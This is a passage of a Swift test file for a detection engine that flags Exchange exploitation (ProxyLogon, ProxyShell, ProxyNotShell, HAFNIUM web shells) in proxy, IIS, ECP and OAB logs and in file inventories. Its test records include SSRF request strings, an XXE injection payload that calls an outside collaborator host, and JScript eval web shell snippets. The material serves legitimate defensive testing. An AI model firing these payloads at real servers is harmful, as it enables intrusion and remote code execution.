import Foundation
import Testing
@testable import IncidentCore

/// One record built through the real parser of its format, with the exact ids the built-in pack
/// must report for it. `target` names the indicator the case is about; `hit` says whether the case
/// shows that indicator firing (true) or a near-miss benign look-alike it must ignore (false).
struct RuleCase: Sendable, CustomTestStringConvertible {
    let target: String
    let hit: Bool
    let name: String
    let format: EvidenceFormat
    let lines: [String]
    let expected: Set<String>

    var testDescription: String { "\(target) \(hit ? "hit" : "near-miss"): \(name)" }

    static func hp(_ target: String, _ hit: Bool, _ name: String, _ fields: [String: String], _ expected: Set<String>) -> RuleCase {
        RuleCase(target: target, hit: hit, name: name, format: .httpProxy, lines: HttpProxyLog.lines(fields), expected: expected)
    }

    static func iis(_ target: String, _ hit: Bool, _ name: String, _ lines: [String], _ expected: Set<String>) -> RuleCase {
        RuleCase(target: target, hit: hit, name: name, format: .iisW3C, lines: lines, expected: expected)
    }

    static func ecp(_ target: String, _ hit: Bool, _ name: String, _ lines: [String], _ expected: Set<String>) -> RuleCase {
        RuleCase(target: target, hit: hit, name: name, format: .ecpServer, lines: lines, expected: expected)
    }

    static func oab(_ target: String, _ hit: Bool, _ name: String, _ path: String, _ expected: Set<String>) -> RuleCase {
        RuleCase(target: target, hit: hit, name: name, format: .oabGenerator, lines: OABLog.lines(path: path), expected: expected)
    }

    static func inv(_ target: String, _ hit: Bool, _ name: String, hash: String = Inventory.benignHash, path: String,
                    _ expected: Set<String>) -> RuleCase {
        RuleCase(target: target, hit: hit, name: name, format: .fileInventory, lines: Inventory.lines(hash: hash, path: path),
                 expected: expected)
    }
}

enum RuleCases {
    static let web = Inventory.exchangeWeb
    static let volexityIP = "104.140.114.110"
    static let exploitUA = "ExchangeServicesClient/0.0.0.0"
    static let proxyShellQuery = "@evil.corp/ews/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;&cafeReqId=abc-123;"
    static let injectionUA = "(select+extractvalue(xmltype('<?xml+version=\"1.0\"+encoding=\"UTF-8\"?><!DOCTYPE+root+[+<!ENTITY+%+cveec+SYSTEM+\"http://ta7y99sc16vh9tvo5z7z1crsxj3cr2f530qqef.burpcollab'||'orator.net/\">%cveec;]>'),'/l')+from+dual)"
    static let duckDuckBot = "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)"
    static let baidu = "Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)"
    static let ddi = "ServerInfo~a]@exch01.corp.example:444/ecp/DDI/DDIService.svc/"

    static let httpProxy: [RuleCase] = [
        .hp("PL-001", true, "mapi/emsmdb SSRF (Test-ProxyLogon 26855 hit)",
            ["AnchorMailbox": "ServerInfo~a]@exch/mapi/emsmdb/?#"], ["PL-001"]),
        .hp("PL-001", true, "SSRF chain step with exploit UA from a Volexity IP",
            ["AnchorMailbox": "ServerInfo~a]@exch01.corp.example:444/mapi/emsmdb/?#", "UrlStem": "/ecp/y.js", "Method": "POST",
             "UserAgent": exploitUA, "ClientIpAddress": volexityIP, "AuthenticatedUser": "", "RoutingHint": "X-BEResource-Cookie"],
            ["PL-001", "UA-057", "IP-054"]),
        .hp("PL-001", false, "autodiscover-only SSRF is PL-002, not PL-001",
            ["AnchorMailbox": "ServerInfo~a]@exch:444/autodiscover/autodiscover.xml?#"], ["PL-002"]),
        .hp("PL-001", false, "ServerInfo~ without a path", ["AnchorMailbox": "ServerInfo~exch01.corp.example"], []),
        .hp("PL-001", false, "Managed Availability probe (HealthMailbox anchor from ::1)",
            ["AnchorMailbox": "Smtp~HealthMailboxd9179c76e74a201352568e6b414dd97e@corp.example", "UserAgent": "AMProbe/Local/ClientAccess",
             "ClientIpAddress": "::1", "UrlStem": "/owa/", "Protocol": "Owa",
             "AuthenticatedUser": "HealthMailboxd9179c76e74a201352568e6b414dd97e@corp.example"], []),
        .hp("PL-001", false, "Managed Availability probe (Sid~ anchor from 127.0.0.1)",
            ["AnchorMailbox": "Sid~S-1-5-21-3623811015-3361044348-30300820-1142", "UserAgent": "AMProbe/Local/ClientAccess",
             "ClientIpAddress": "127.0.0.1", "UrlStem": "/ecp/", "HttpStatus": "302"], []),
        .hp("PL-002", true, "autodiscover-only SSRF", ["AnchorMailbox": "ServerInfo~a]@exch:444/autodiscover/autodiscover.xml?#"], ["PL-002"]),
        .hp("PL-002", false, "scanner autodiscover against localhost is a probe",
            ["AnchorMailbox": "ServerInfo~localhost/autodiscover/autodiscover.xml?#"], ["PL-003"]),
        .hp("PL-003", true, "nmap http-vuln-cve2021-26855 probe",
            ["AnchorMailbox": "ServerInfo~localhost/ecp/default.flt?", "RoutingHint": "X-AnonResource-Backend-Cookie",
             "HttpStatus": "500", "UrlStem": "/owa/auth/x.js", "AuthenticatedUser": ""], ["PL-003"]),
        .hp("PL-003", false, "localhost without a path", ["AnchorMailbox": "ServerInfo~localhost"], []),
        .hp("PL-005", true, "BackEndCookie Server~…/…~…",
            ["BackEndCookie": "Server~a]@exch01.corp.example:444/mapi/emsmdb/?~1942062522"], ["PL-005"]),
        .hp("PL-005", false, "BackEndCookie Server~ without a path",
            ["BackEndCookie": "Server~exch01.corp.example~1942062522"], []),
        .hp("PL-007", true, "ResetOABVirtualDirectory answered 200",
            ["AnchorMailbox": ddi + "SetObject?msExchEcpCanary=X&schema=ResetOABVirtualDirectory#"], ["PL-001", "PL-007"]),
        .hp("PL-007", false, "ResetOABVirtualDirectory answered 500",
            ["AnchorMailbox": ddi + "SetObject?msExchEcpCanary=X&schema=ResetOABVirtualDirectory#", "HttpStatus": "500"], ["PL-001"]),
        .hp("PL-008", true, "proxyLogon.ecp answered 241",
            ["AnchorMailbox": "ServerInfo~a]@exch01.corp.example:444/ecp/proxyLogon.ecp?#", "HttpStatus": "241"], ["PL-001", "PL-008"]),
        .hp("PL-008", false, "proxyLogon.ecp answered 200",
            ["AnchorMailbox": "ServerInfo~a]@exch01.corp.example:444/ecp/proxyLogon.ecp?#"], ["PL-001"]),
        .hp("PL-009", true, "SetObject on the OAB virtual directory",
            ["AnchorMailbox": ddi + "SetObject?msExchEcpCanary=X&schema=OABVirtualDirectory#"], ["PL-001", "PL-009"]),
        .hp("PL-009", false, "GetObject on the OAB virtual directory",
            ["AnchorMailbox": ddi + "GetObject?msExchEcpCanary=X&schema=OABVirtualDirectory#"], ["PL-001"]),
        .hp("IP-054", true, "Volexity IP as ClientIpAddress", ["ClientIpAddress": volexityIP], ["IP-054"]),
        .hp("IP-054", false, "neighbouring address", ["ClientIpAddress": "104.140.114.11"], []),
        .hp("IP-055", true, "CISA IP as ClientIpAddress", ["ClientIpAddress": "5.2.69.14"], ["IP-055"]),
        .hp("IP-055", false, "address with the CISA IP as prefix", ["ClientIpAddress": "5.2.69.140"], []),
        .hp("UA-057", true, "ExchangeServicesClient/0.0.0.0 on /ecp/",
            ["UserAgent": exploitUA, "UrlStem": "/ecp/y.js", "Method": "POST"], ["UA-057"]),
        .hp("UA-057", true, "python-requests/2.25.1 on /ecp/DDI",
            ["UserAgent": "python-requests/2.25.1", "UrlStem": "/ecp/DDI/DDIService.svc/GetList"], ["UA-057"]),
        .hp("UA-057", false, "exploit UA outside /ecp/", ["UserAgent": exploitUA, "UrlStem": "/owa/"], []),
        .hp("UA-057", false, "Managed Availability EWS client version on /ecp/",
            ["UserAgent": "Ews_AM_Probe/Local (ExchangeServicesClient/15.01.2106.002)", "UrlStem": "/ecp/"], []),
    ]

    static let iis: [RuleCase] = [
        .iis("IP-054", true, "Volexity IP as c-ip", IISLog.lines("GET", "/owa/", ip: volexityIP), ["IP-054"]),
        .iis("IP-054", false, "neighbouring address", IISLog.lines("GET", "/owa/", ip: "104.140.114.111"), []),
        .iis("IP-055", true, "CISA IP as c-ip", IISLog.lines("GET", "/owa/", ip: "91.192.103.43"), ["IP-055"]),
        .iis("IP-055", false, "address with the CISA IP as prefix", IISLog.lines("GET", "/owa/", ip: "91.192.103.4"), []),
        .iis("UA-057", true, "ExchangeServicesClient/0.0.0.0 GET /ecp/", IISLog.lines("GET", "/ecp/", ua: exploitUA), ["UA-057"]),
        .iis("UA-057", false, "Managed Availability EWS probe UA on /ecp/",
             IISLog.lines("GET", "/ecp/", ip: "127.0.0.1", ua: "Ews_AM_Probe/Local+(ExchangeServicesClient/15.01.2106.002)"), []),
        .iis("IIS-059", true, "POST to a static OWA theme resource",
             IISLog.lines("POST", "/owa/auth/Current/themes/resources/logon.css"), ["IIS-059"]),
        .iis("IIS-059", false, "GET of the same static resource",
             IISLog.lines("GET", "/owa/auth/Current/themes/resources/logon.css"), []),
        .iis("IIS-060", true, "POST /ecp/y.js", IISLog.lines("POST", "/ecp/y.js"), ["IIS-060"]),
        .iis("IIS-060", true, "POST /ecp/oCb.js (Metasploit)", IISLog.lines("POST", "/ecp/oCb.js"), ["IIS-060"]),
        .iis("IIS-060", false, "POST /ecp/abcd.js (four characters)", IISLog.lines("POST", "/ecp/abcd.js"), []),
        .iis("IIS-060", false, "GET /ecp/y.js", IISLog.lines("GET", "/ecp/y.js"), []),
        .iis("IIS-061", true, "nmap GET /owa/auth/x.js",
             IISLog.lines("GET", "/owa/auth/x.js", ip: "203.0.113.50",
                          ua: "Mozilla/5.0+(compatible;+Nmap+Scripting+Engine;+https://nmap.org/book/nse.html)", status: "500"),
             ["IIS-061"]),
        .iis("IIS-061", false, "POST /owa/auth/x.js", IISLog.lines("POST", "/owa/auth/x.js"), []),
        .iis("IIS-063", true, "web shell under aspnet_client answered 200",
             IISLog.lines("POST", "/aspnet_client/discover.aspx"), ["IIS-063"]),
        .iis("IIS-063", true, "MSTIC-listed OWA shell name", IISLog.lines("GET", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx"), ["IIS-063", "IIS-078"]),
        .iis("IIS-063", false, "the real OWA logon page", IISLog.lines("GET", "/owa/auth/logon.aspx"), []),
        .iis("IIS-063", false, "the real OWA error page errorFE.aspx", IISLog.lines("GET", "/owa/auth/errorFE.aspx"), []),
        .iis("IIS-063", false, "ECP TimeoutLogoff.aspx", IISLog.lines("GET", "/ecp/auth/TimeoutLogoff.aspx"), []),
        .iis("IIS-063", false, "OWA theme file in a version folder",
             IISLog.lines("GET", "/owa/auth/15.1.2106/themes/resources/segoeui-regular.aspx"), []),
        .iis("IIS-065", true, "probe for a missing shell (404)",
             IISLog.lines("GET", "/aspnet_client/shell.aspx", ip: "198.51.100.23", ua: "python-requests/2.25.1", status: "404", win32: "2"),
             ["IIS-065"]),
        .iis("IIS-065", false, "missing ASP.NET client script (404)",
             IISLog.lines("GET", "/aspnet_client/system_web/4_0_30319/WebUIValidation.js", status: "404", win32: "2"), []),
        .iis("UA-056", true, "crawler-impersonating UA POSTs under /owa/auth/",
             IISLog.lines("POST", "/owa/auth/Current/scripts/premium/flogon.js", ua: duckDuckBot), ["UA-056"]),
        .iis("UA-056", true, "Baiduspider POSTs a theme resource from a Volexity IP",
             IISLog.lines("POST", "/owa/auth/Current/themes/resources/logon.css", ip: volexityIP, ua: baidu),
             ["IIS-059", "UA-056", "IP-054"]),
        .iis("UA-056", false, "crawler UA with GET", IISLog.lines("GET", "/owa/auth/Current/scripts/premium/flogon.js", ua: duckDuckBot), []),
        .iis("UA-056", false, "crawler UA POSTs to /ecp/", IISLog.lines("POST", "/ecp/RulesEditor/InboxRules.svc/GetList", ua: duckDuckBot), []),
        .iis("UA-058", true, "antSword POSTs to OWA", IISLog.lines("POST", "/owa/service.svc", ua: "antSword/v2.1"), ["UA-058"]),
        .iis("UA-058", true, "antSword drives the web shell",
             IISLog.lines("POST", "/aspnet_client/discover.aspx", ip: "5.254.43.18", ua: "antSword/v2.1"), ["IIS-063", "UA-058", "IP-054"]),
        .iis("UA-058", false, "antSword GET", IISLog.lines("GET", "/owa/", ua: "antSword/v2.1"), []),
        .iis("IIS-078", true, "randomly named page under /owa/auth/ answered 200",
             IISLog.lines("POST", "/owa/auth/QxZ1aB2cD3eF4gH5.aspx"), ["IIS-078"]),
        .iis("IIS-078", false, "the same page absent (404)", IISLog.lines("POST", "/owa/auth/QxZ1aB2cD3eF4gH5.aspx", status: "404", win32: "2"), []),
        .iis("IIS-078", false, "the stock logon page", IISLog.lines("GET", "/owa/auth/logon.aspx", query: "replaceCurrent=1&url=https%3a%2f%2fmail%2fowa%2f"), []),
        .iis("IIS-078", false, "the stock error page, other case", IISLog.lines("GET", "/owa/auth/errorFE.aspx", query: "httpCode=500"), []),
        .iis("UA-058", false, "antSword POSTs to /ecp/", IISLog.lines("POST", "/ecp/", ua: "antSword/v2.1"), []),
        .iis("UA-058", true, "antSword POST answered 200 by a page among the theme resources (a MSTIC feed path)",
             IISLog.lines("POST", "/owa/auth/Current/themes/resources/logon.aspx", ua: "antSword/v2.1"), ["IIS-059", "UA-058"]),
        .iis("UA-058", false, "antSword POST refused (404): no shell at that path",
             IISLog.lines("POST", "/aspnet_client/discover.aspx", ua: "antSword/v2.1", status: "404", win32: "2"), ["IIS-065"]),
        .iis("UA-058", true, "Baiduspider POST to a shell answered 500 (the shell ran and failed)",
             IISLog.lines("POST", "/owa/auth/errorFF.aspx", ua: baidu, status: "500"), ["UA-056", "UA-058", "IIS-065"]),
        .iis("PS-001", true, "ProxyShell autodiscover.json answered 200",
             IISLog.lines("GET", "/autodiscover/autodiscover.json", query: proxyShellQuery, ip: "1.1.1.1", ua: "python-requests/2.26.0"),
             ["PS-001"]),
        .iis("PS-001", false, "Outlook mobile autodiscover.json (no @ prefix)",
             IISLog.lines("GET", "/autodiscover/autodiscover.json",
                          query: "Email=alice%40corp.example&Protocol=ActiveSync&RedirectCount=1&CorrelationID=<empty>;&cafeReqId=77;"),
             []),
        .iis("PS-002", true, "ProxyShell autodiscover.json answered 400",
             IISLog.lines("GET", "/autodiscover/autodiscover.json", query: proxyShellQuery, status: "400"), ["PS-002"]),
        .iis("PS-002", false, "same query on autodiscover.xml",
             IISLog.lines("POST", "/autodiscover/autodiscover.xml", query: proxyShellQuery, status: "400"), []),
        .iis("PS-001", true, "scanner check: @host/owa/ with the Email=autodiscover/autodiscover.json%3F@ marker",
             IISLog.lines("GET", "/autodiscover/autodiscover.json",
                          query: "@evil.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.com&CorrelationID=<empty>;&cafeReqId=1;"),
             ["PS-001"]),
        .iis("PS-001", true, "%40-encoded @ reaching PowerShell",
             IISLog.lines("GET", "/autodiscover/autodiscover.json", query: "%40evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz"),
             ["PS-001"]),
        .iis("PNS-001", true, "ProxyNotShell Protocol=…Powershell answered 200",
             IISLog.lines("GET", "/autodiscover/autodiscover.json",
                          query: "@evil.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.com&Protocol=XYZ&FooProtocol=Powershell"),
             ["PS-001", "PNS-001"]),
        .iis("PNS-001", true, "ProxyNotShell with %50owershell and no @ prefix",
             IISLog.lines("GET", "/autodiscover/autodiscover.json",
                          query: "a..foo.var/owa/&Email=autodiscover/autodiscover.json%3Fa..foo.var&Protocol=XYZ&FooProtocol=%50owershell"),
             ["PNS-001"]),
        .iis("PNS-001", false, "Outlook mobile autodiscover.json with a Protocol parameter",
             IISLog.lines("GET", "/autodiscover/autodiscover.json",
                          query: "Email=alice%40corp.example&Protocol=ActiveSync&RedirectCount=1"),
             []),
        .iis("PNS-002", true, "ProxyNotShell blocked by the URL Rewrite mitigation (403)",
             IISLog.lines("GET", "/autodiscover/autodiscover.json",
                          query: "@evil.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.com&Protocol=XYZ&FooProtocol=Powershell", status: "403"),
             ["PS-002", "PNS-002"]),
        .iis("PNS-002", false, "PowerShell named outside autodiscover.json",
             IISLog.lines("GET", "/powershell/", query: "Protocol=Powershell", status: "401"), []),
        .iis("WEB-001", true, "SQL/XXE injection in the user agent",
             IISLog.lines("GET", "/some_url_from_my_website/", ip: "13.12.11.10", ua: injectionUA), ["WEB-001"]),
        .iis("WEB-001", false, "ordinary user agent", IISLog.lines("GET", "/owa/", ua: IISLog.browserUA), []),
    ]

    static let ecp: [RuleCase] = [
        .ecp("PL-011", true, "27065 exploit line", ECPLog.lines(cmd: ECPLog.maliciousCmd), ["PL-011", "PL-012", "PL-013", "PL-014"]),
        .ecp("PL-011", true, "OAB ExternalUrl set to a plain URL (Volexity's noisy rule)",
             ECPLog.lines(cmd: ECPLog.adminOabCmd), ["PL-011", "PL-013"]),
        .ecp("PL-011", false, "attacker clean-up ExternalUrl=$null", ECPLog.lines(cmd: ECPLog.cleanupCmd), ["PL-013"]),
        .ecp("PL-017", true, "Jscript page markup without a closing tag in the ECP ExternalUrl",
             ECPLog.lines(cmd: "Set-EcpVirtualDirectory.ExternalUrl=''https://x/<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>''.Identity=''EXCH01\\ecp (Default Web Site)''",
                          schema: "EcpVirtualDirectory"), ["PL-013", "PL-017"]),
        .ecp("PL-017", true, "the same in an OAB ExternalUrl (PL-014 too)",
             ECPLog.lines(cmd: "Set-OabVirtualDirectory.ExternalUrl=''https://x/<%eval(Request.Item[\"z\"],\"unsafe\");%>''.Identity=''\(ECPLog.identity)''"),
             ["PL-011", "PL-013", "PL-014", "PL-017"]),
        .ecp("PL-017", true, "another parameter before the URL",
             ECPLog.lines(cmd: "Set-OabVirtualDirectory.Identity=''x''.InternalUrl=''http://f/<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>''"),
             ["PL-013", "PL-017"]),
        .ecp("PL-017", false, "an administrator's plain URL", ECPLog.lines(cmd: ECPLog.adminOwaCmd, schema: "OwaVirtualDirectory"), ["PL-013"]),
        .ecp("PL-012", true, "script in an ECP virtual directory InternalUrl",
             ECPLog.lines(cmd: "Set-EcpVirtualDirectory.InternalUrl=''https://x/<b>bold</b>''.Identity=''EXCH01\\ecp (Default Web Site)''",
                          schema: "EcpVirtualDirectory"),
             ["PL-012", "PL-013"]),
        .ecp("PL-012", false, "legitimate OWA ExternalUrl change", ECPLog.lines(cmd: ECPLog.adminOwaCmd, schema: "OWAVirtualDirectory"),
             ["PL-013"]),
        .ecp("PL-013", true, "any Set-*VirtualDirectory", ECPLog.lines(cmd: "Set-OwaVirtualDirectory.LogonFormat=''UserName''"), ["PL-013"]),
        .ecp("PL-013", false, "Get-OabVirtualDirectory read", ECPLog.lines(cmd: ECPLog.readCmd, quotedCmd: false), []),
        .ecp("PL-013", false, "inbox rules", ECPLog.lines(cmd: "Get-InboxRule", quotedCmd: false, schema: "InboxRules"), []),
    ]

    static let oab: [RuleCase] = [
        .oab("PL-015", true, "UNC path", "'\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.txt'", ["PL-015"]),
        .oab("PL-015", false, "OAB temp folder", OABLog.benignTemp, []),
        .oab("PL-016", true, "ASPX written into aspnet_client", "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx'", ["PL-015", "PL-016"]),
        .oab("PL-016", true, "ASPX via UNC", "'\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx'", ["PL-015", "PL-016"]),
        .oab("PL-016", false, "ASPX-looking name in the OAB temp folder",
             "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\x.aspx'", []),
        .oab("PL-016", false, "non-script file outside the OAB folder", "'C:\\Windows\\Temp\\oab.lzx'", ["PL-015"]),
    ]

    static let inventory: [RuleCase] = [
        .inv("FH-044", true, "Microsoft HAFNIUM hash not in the MSTIC feed",
             hash: "097549CF7D0F76F0D99EDF8B2D91C60977FD6A96E4B8C3C94B0B1733DC026D3E", path: web + "owa\\auth\\error.aspx", ["FH-044"]),
        .inv("FH-044", true, "Microsoft hash also in the MSTIC feed",
             hash: "B75F163CA9B9240BF4B37AD92BC7556B40A17E27C2B8ED5C8991385FE07D17D0", path: web + "owa\\auth\\error.aspx",
             ["FH-044", "FH-045"]),
        .inv("FH-044", false, "baseline hash of owa\\auth\\error.aspx", path: web + "owa\\auth\\error.aspx", []),
        .inv("FH-044", false, "one digit off a listed hash",
             hash: "097549CF7D0F76F0D99EDF8B2D91C60977FD6A96E4B8C3C94B0B1733DC026D3F", path: web + "owa\\auth\\error.aspx", []),
        .inv("FH-045", true, "MSTIC-only hash",
             hash: "027119161D11BA87ACC908A1D284B93A6BCAFCCC012E52CE390ECB9CD745BF27", path: "C:\\Windows\\Temp\\a.bin", ["FH-045"]),
        .inv("FH-045", false, "SHA-256 of the empty file",
             hash: "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", path: "C:\\Windows\\Temp\\a.bin", []),
        .inv("FH-046", true, "Volexity SIMPLESEESHARP",
             hash: "893CD3583B49CB706B3E55ECB2ED0757B977A21F5C72E041392D1256F31166E2", path: "C:\\Windows\\Temp\\a.bin", ["FH-046"]),
        .inv("FH-046", false, "hash as a path, not a hash",
             path: "C:\\Windows\\Temp\\893cd3583b49cb706b3e55ecb2ed0757b977a21f5c72e041392d1256f31166e2", []),
        .inv("FH-047", true, "CISA AR21-084A OAB shell",
             hash: "C8A7B5FFCF23C7A334BB093DDA19635EC06CA81F6196325BB2D811716C90F3C5", path: "C:\\Windows\\Temp\\a.bin", ["FH-047"]),
        .inv("FH-047", false, "hash prefix only", hash: "C8A7B5FFCF23C7A334BB093DDA19635E", path: "C:\\Windows\\Temp\\a.bin", []),
        .inv("FP-033", true, "ASPX under aspnet_client", path: "C:\\inetpub\\wwwroot\\aspnet_client\\foo.aspx", ["FP-033"]),
        .inv("FP-033", true, "ASPX deeper under aspnet_client", path: "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\foo.aspx", ["FP-033"]),
        .inv("FP-033", false, "ASP.NET's own client script",
             path: "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\WebUIValidation.js", []),
        .inv("FP-034", true, "file under FrontEnd ecp\\auth", path: web + "ecp\\auth\\foo.js", ["FP-034"]),
        .inv("FP-034", false, "ecp\\auth\\TimeoutLogoff.aspx", path: web + "ecp\\auth\\TimeoutLogoff.aspx", []),
        .inv("FP-035", true, "ASPX under owa\\auth\\Current", path: web + "owa\\auth\\Current\\foo.aspx", ["FP-035"]),
        .inv("FP-035", false, "stylesheet under owa\\auth\\Current", path: web + "owa\\auth\\Current\\themes\\resources\\logon.css", []),
        .inv("FP-036", true, "HAFNIUM name in owa\\auth", path: web + "owa\\auth\\web.aspx", ["FP-036", "FP-077"]),
        .inv("FP-036", false, "HAFNIUM name outside the web folders", path: "C:\\inetpub\\wwwroot\\web.aspx", []),
        .inv("FP-037", true, "MSTIC path ews\\333.aspx", path: web + "ews\\333.aspx", ["FP-037"]),
        .inv("FP-037", true, "MSTIC path on another install drive", path: "D:\\Exchange\\FrontEnd\\HttpProxy\\ews\\333.aspx", ["FP-037"]),
        .inv("FP-037", false, "neighbouring file name", path: web + "ews\\334.aspx", []),
        .inv("FP-038", true, "Chack* family name not in the MSTIC list", path: web + "owa\\auth\\ChackOutLookDA.aspx", ["FP-038", "FP-077"]),
        .inv("FP-038", false, "Chack* with an unknown language suffix", path: web + "owa\\auth\\ChackOutLookFR.aspx", ["FP-077"]),
        .inv("FP-077", true, "randomly named page in owa\\auth", path: web + "owa\\auth\\QxZ1aB2cD3eF4gH5.aspx", ["FP-077"]),
        .inv("FP-077", true, "look-alike of a stock page", path: web + "owa\\auth\\RedirSuiteServerProxy.aspx", ["FP-077"]),
        .inv("FP-077", true, "Exchange 2013 ClientAccess owa\\auth", path: "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\Owa\\auth\\zz.aspx", ["FP-077"]),
        .inv("FP-077", false, "stock logon page", path: web + "owa\\auth\\logon.aspx", []),
        .inv("FP-077", false, "stock page, other case", path: web + "owa\\auth\\ERRORFE.ASPX", []),
        .inv("FP-077", false, "Exchange 2013 stock error2.aspx", path: "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\Owa\\auth\\error2.aspx", []),
        .inv("FP-077", false, "a page in a sub-folder (FP-035's)", path: web + "owa\\auth\\Current\\foo.aspx", ["FP-035"]),
        .inv("FP-077", false, "not a page", path: web + "owa\\auth\\getidtoken.htm", []),
        .inv("FP-039", true, "LSASS dump", path: "C:\\root\\lsass.dmp", ["FP-039"]),
        .inv("FP-039", true, "zipped LSASS dump in Windows\\Temp", path: "C:\\Windows\\Temp\\lsass_1.zip", ["FP-039"]),
        .inv("FP-039", false, "lsass.exe itself", path: "C:\\Windows\\System32\\lsass.exe", []),
        .inv("FP-040", true, "AV archive deep under ProgramData",
             path: "C:\\ProgramData\\McAfee\\Common Framework\\Installer\\agent.zip", ["FP-040"]),
        .inv("FP-040", false, "text file under ProgramData", path: "C:\\ProgramData\\McAfee\\readme.txt", []),
        .inv("FP-041", true, "short archive name directly under ProgramData", path: "C:\\ProgramData\\it.zip", ["FP-040", "FP-041"]),
        .inv("FP-041", false, "long archive name directly under ProgramData", path: "C:\\ProgramData\\configuration.zip", ["FP-040"]),
        .inv("FP-042", true, "xx.bat in Windows\\Temp", path: "C:\\Windows\\Temp\\xx.bat", ["FP-042"]),
        .inv("FP-042", true, "mscoree.dll in a drive root", path: "C:\\mscoree.dll", ["FP-042"]),
        .inv("FP-042", true, "Opera side-loading path", path: "C:\\users\\public\\opera\\opera_browser.exe", ["FP-037", "FP-042"]),
        .inv("FP-042", false, "the real mscoree.dll", path: "C:\\Windows\\System32\\mscoree.dll", []),
        .inv("FP-043", true, "google.log in an aspnet_client folder", path: "C:\\inetpub\\custom\\aspnet_client\\google.log", ["FP-043"]),
        .inv("FP-043", true, "MSTIC google.log path", path: "C:\\inetpub\\wwwroot\\aspnet_client\\google.log", ["FP-037", "FP-043"]),
        .inv("FP-043", false, "google.txt", path: "C:\\inetpub\\custom\\aspnet_client\\google.txt", []),
    ]

    static let all: [RuleCase] = httpProxy + iis + ecp + oab + inventory + evtx + CatalogCases.all
}

@Suite("RuleEngine with the built-in pack")
struct RuleEngineTests {
    @Test(arguments: RuleCases.all)
    func exactIndicatorIDs(_ c: RuleCase) throws {
        let engine = try builtInEngine()
        let got = try matchIDs(engine, c.lines, c.format)
        #expect(got == c.expected)
        #expect(got.contains(c.target) == c.hit)
    }

    @Test func everyIndicatorHasAHitAndANearMiss() throws {
        let pack = try BuiltInData.indicatorPack()
        // Rows without formats are kept for reference (PL-004, DN-065, CF-068) or evaluated by the
        // scanner across files (BL-001, see FormatTests); every other row needs both cases.
        for indicator in pack.indicators where !indicator.formats.isEmpty {
            let cases = RuleCases.all.filter { $0.target == indicator.id }
            #expect(cases.contains { $0.hit && $0.expected.contains(indicator.id) }, "\(indicator.id) has no hitting case")
            #expect(cases.contains { !$0.hit && !$0.expected.contains(indicator.id) }, "\(indicator.id) has no near-miss case")
            #expect(cases.allSatisfy { indicator.formats.contains($0.format) }, "\(indicator.id): case in a format it does not cover")
        }
        let packIDs = Set(pack.indicators.map(\.id))
        #expect(Set(RuleCases.all.map(\.target)).subtracting(packIDs).isEmpty)
    }

    @Test func testProxyLogon26855Filter() throws {
        let engine = try builtInEngine()
        func anchor(_ a: String) throws -> Set<String> {
            try matchIDs(engine, HttpProxyLog.lines(["AnchorMailbox": a]), .httpProxy)
        }
        #expect(try anchor("ServerInfo~a]@exch/mapi/emsmdb/?#") == ["PL-001"])
        #expect(try anchor("ServerInfo~a]@exch:444/autodiscover/autodiscover.xml?#") == ["PL-002"])
        #expect(try anchor("ServerInfo~localhost/ecp/default.flt?") == ["PL-003"])
        #expect(try anchor("SERVERINFO~A]@EXCH/MAPI/EMSMDB/?#") == ["PL-001"]) // -like is case-insensitive
        #expect(try anchor("Smtp~alice@corp.example") == [])
        #expect(try anchor("") == [])
    }

    @Test func managedAvailabilityLinesProduceNothing() throws {
        let engine = try builtInEngine()
        let iisLines = IISLog.header + [
            "2021-03-03 06:00:00 ::1 GET /owa/ &CorrelationID=<empty>;&cafeReqId=e009df3d-0344-4cd4-8794-93b6df06e18c; 443 HealthMailbox1b2d74401883c333cb3e3748a58a241e@corp.example ::1 AMProbe/Local/ClientAccess - 200 0 0 31",
            "2021-03-03 06:00:00 ::1 GET /ecp/ &CorrelationID=<empty>;&cafeReqId=3812bd48-3424-4219-8433-4909a8320c70;&LogoffReason=NoCookiesGetOrE14AuthPost 443 - ::1 AMProbe/Local/ClientAccess - 302 0 0 12",
            "2021-03-05 09:02:00 127.0.0.1 POST /EWS/Exchange.asmx &CorrelationID=<empty>;&cafeReqId=1; 443 HealthMailbox1b2d74401883c333cb3e3748a58a241e@corp.example 127.0.0.1 Ews_AM_Probe/Local+(ExchangeServicesClient/15.01.2106.002) - 200 0 0 40",
        ]
        let records = parseAll(iisLines, format: .iisW3C)
        try #require(records.count == 3)
        for r in records { #expect(engine.match(r, format: .iisW3C).isEmpty, "line \(r.line)") }
    }

    @Test func hitFieldIsReportedInTheHeaderSpelling() throws {
        let engine = try builtInEngine()
        let r = try #require(parseAll(IISLog.lines("GET", "/owa/", ip: RuleCases.volexityIP), format: .iisW3C).last)
        let ip = try #require(engine.match(r, format: .iisW3C).first)
        #expect(ip.id == "IP-054")
        #expect(ip.field == "client-ip")
        #expect(r.displayName(ip.field) == "c-ip")
    }

    @Test func indicatorsAreFiledByFormat() throws {
        let engine = try builtInEngine()
        #expect(engine.indicators(for: .httpProxy).map(\.id) ==
                ["PL-001", "PL-002", "PL-003", "PL-005", "PL-007", "PL-008", "PL-009", "IP-054", "IP-055", "UA-057", "PL-006", "PL-010"])
        #expect(engine.indicators(for: .ecpServer).map(\.id) == ["PL-011", "PL-012", "PL-013", "PL-014", "PL-017"])
